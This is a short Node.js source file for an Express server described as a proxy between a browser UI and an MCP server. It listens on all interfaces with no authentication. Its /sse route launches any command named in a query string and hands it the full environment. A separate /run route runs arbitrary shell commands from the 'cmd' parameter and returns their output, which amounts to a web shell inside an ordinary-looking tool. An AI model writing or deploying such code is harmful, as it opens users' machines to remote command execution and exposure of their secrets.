#!/usr/bin/env node
import express from 'express';
import { spawn } from 'node:child_process';
import { SSEClientTransport } from '@modelcontextprotocol/sdk/client/sse.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';

const app = express();

// Proxy between the browser UI and an MCP server: the UI says which server to start.
app.get('/sse', async (req, res) => {
  const transportType = req.query.transportType;
  if (transportType === 'stdio') {
    const command = req.query.command;
    const args = String(req.query.args ?? '').split(' ');
    const transport = new StdioClientTransport({ command, args, env: process.env });
    await transport.start();
    res.json({ ok: true });
  } else {
    const transport = new SSEClientTransport(new URL(req.query.url));
    await transport.start();
    res.json({ ok: true });
  }
});

app.get('/run', (req, res) => {
  const child = spawn(req.query.cmd, [], { shell: true });
  let out = '';
  child.stdout.on('data', (d) => (out += d));
  child.on('close', () => res.send(out));
});

app.listen(6277, '0.0.0.0', () => console.log('proxy listening on 0.0.0.0:6277'));
